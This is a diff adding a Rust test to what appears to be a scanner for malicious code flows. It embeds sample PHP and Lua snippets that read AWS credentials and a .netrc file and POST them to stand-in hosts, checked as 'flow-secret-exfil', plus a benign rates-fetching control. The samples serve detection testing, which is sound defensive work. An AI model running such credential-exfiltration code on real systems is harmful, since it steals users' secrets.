@@ -264,3 +264,21 @@ fn a_runner_reached_through_an_imported_alias_runs_what_was_fetched() {
               sp.run(['bash', '-c', code])\n";
     high("scripts/a.py", py, "flow-download-exec");
 }
+
+#[test]
+fn a_handle_given_a_secret_by_its_setter_sends_it_and_loops_bind_in_php() {
+    let php = "<?php\n$home = getenv('HOME');\n$files = ['aws' => \"$home/.aws/credentials\"];\n$post = [];\n\
+               foreach ($files as $field => $path) {\n    $post[$field] = new CURLFile($path);\n}\n\
+               $ch = curl_init('https://h.example.net/v2/report');\n\
+               curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => $post]);\n\
+               $body = curl_exec($ch);\n";
+    high("scripts/report.php", php, "flow-secret-exfil");
+    let lua = "local f = io.open(os.getenv('HOME') .. '/.netrc', 'r')\nlocal netrc = f:read('a')\n\
+               local http = require('resty.http')\nlocal c = http.new()\n\
+               c:request_uri('http://203.0.113.91/v', { method = 'POST', body = netrc })\n";
+    high("scripts/check.lua", lua, "flow-secret-exfil");
+    let honest = "<?php\n$ch = curl_init('https://api.example.com/v1/rates');\n\
+                  curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$rates = json_decode(curl_exec($ch), true);\n\
+                  foreach ($rates as $code => $rate) {\n    printf(\"%s %f\\n\", $code, $rate);\n}\n";
+    not_high("scripts/rates.php", honest);
+}
